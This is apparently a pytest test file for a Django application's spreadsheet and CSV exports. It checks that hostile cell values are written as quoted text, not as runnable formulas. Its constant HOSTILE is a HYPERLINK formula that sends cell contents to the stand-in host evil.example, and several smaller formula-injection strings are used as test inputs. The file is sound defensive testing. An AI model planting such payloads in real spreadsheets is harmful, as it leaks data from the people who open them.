"""No file Amity writes holds a text that a spreadsheet would run as a formula (issue 14, item 3).

Every spreadsheet and CSV goes through `amity.core.exports` (`SafeWorkbook`, `SafeCsvWriter`);
the last test fails when a module makes a workbook or a CSV writer of its own.
"""

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from amity.core.exports import FORMULA_PREFIXES
from amity.organizations.models import Organization
from amity.partners.models import Partner
from amity.reporting.choices import SubmissionState
from tests.reporting.conftest import report  # noqa: F401 (a fixture)
from tests.reporting.factories import submission

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
SOURCE = Path(__file__).resolve().parents[2] / "src" / "amity"


def cells_of(response) -> list:
    """Every cell of a downloaded XLSX or CSV, as text (formulas as their text)."""
    content = response.content
    assert response.status_code == 200, content[:300]
    if content[:2] == b"PK":
        book = load_workbook(io.BytesIO(content))
        found = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"a formula in {sheet.title}!{cell.coordinate}"
                    found.append(cell.value)
        return found
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def assert_safe(cells, expected_text):
    texts = [cell for cell in cells if isinstance(cell, str)]
    runnable = [cell for cell in texts if cell.startswith(FORMULA_PREFIXES)]
    assert runnable == []
    # the text itself is kept, behind a quote
    assert any(cell == "'" + expected_text for cell in texts), texts


def test_the_consolidation_export_writes_a_hostile_short_name_as_text(
    client,
    login,
    report,  # noqa: F811 (the fixture imported above)
    orgs,
    users,
):
    Organization.objects.filter(pk=orgs.hanoi.pk).update(
        name=HOSTILE, name_en=HOSTILE, short_name=HOSTILE, short_name_en=HOSTILE
    )
    submission(
        orgs.hanoi,
        report.version,
        report.h1,
        SubmissionState.SUBMITTED,
        {report.items.partners: 10},
    )
    login(users.central)
    query = {
        "form": report.form.pk,
        "period": report.h1.pk,
        "indicator": [report.items.partners.pk],
    }
    for file_format in ("xlsx", "csv"):
        response = client.get(reverse("reporting:consolidation"), {**query, "export": file_format})
        assert_safe(cells_of(response), HOSTILE)


def test_the_aid_statistics_workbook_writes_a_hostile_donor_as_text(client, login, orgs, users):
    from tests.aid.test_aid import activity, flow

    donor = Partner.objects.create(kind="ngo", name=HOSTILE, sensitivity="public")
    flow(activity(orgs.hanoi, "H-1", donor), "2", date(2020, 1, 1), "100")
    login(users.central)
    response = client.get(reverse("aid:statistics"), {"export": "xlsx"})
    assert_safe(cells_of(response), HOSTILE)


def test_list_exports_and_the_offline_workbook_write_hostile_text_as_text(
    client,
    login,
    report,  # noqa: F811 (the fixture imported above)
    orgs,
    users,
):
    Partner.objects.create(kind="ngo", name="@SUM(1+1)*cmd", sensitivity="public")
    login(users.central)
    for file_format in ("xlsx", "csv"):
        response = client.get(reverse("partners:partner_list"), {"export": file_format})
        assert_safe(cells_of(response), "@SUM(1+1)*cmd")
    report.items.delegations_in.__class__.objects.filter(pk=report.items.delegations_in.pk).update(
        name="-2+3", name_en="-2+3", unit="+1"
    )
    draft = submission(orgs.hanoi, report.version, report.h1, values={report.items.partners: 1})
    response = client.get(reverse("reporting:submission_workbook", args=[draft.pk]))
    assert_safe(cells_of(response), "-2+3")


def test_the_command_line_export_writes_hostile_text_as_text(orgs, users, tmp_path):
    from django.core.management import call_command

    Partner.objects.create(kind="ngo", name="\t=1+1", sensitivity="public")
    target = tmp_path / "partners.csv"
    call_command("export", "partners", str(target), stdout=io.StringIO())
    cells = [c for row in csv.reader(io.StringIO(target.read_text("utf-8-sig"))) for c in row]
    assert_safe(cells, "\t=1+1")


def test_no_module_writes_a_spreadsheet_or_a_csv_of_its_own():
    """Every file writer goes through amity.core.exports, where the cells are made safe."""
    own = re.compile(
        r"openpyxl import .*\bWorkbook\b|openpyxl\.Workbook\(|csv\.(writer|DictWriter)\(|"
        r"import xlsxwriter|\.to_excel\(|\.export\(\s*['\"]?(xlsx|csv)"
    )
    offenders = [
        f"{path.relative_to(SOURCE)}:{number}"
        for path in SOURCE.rglob("*.py")
        if path.relative_to(SOURCE) != Path("core/exports.py")
        for number, line in enumerate(path.read_text().splitlines(), start=1)
        if own.search(line)
    ]
    assert offenders == []


def test_numbers_stay_numbers():
    from amity.core.exports import safe_row

    assert safe_row([-5, Decimal("-1.5"), None, "-5", "a=b"]) == [
        -5,
        Decimal("-1.5"),
        "",
        "'-5",
        "a=b",
    ]
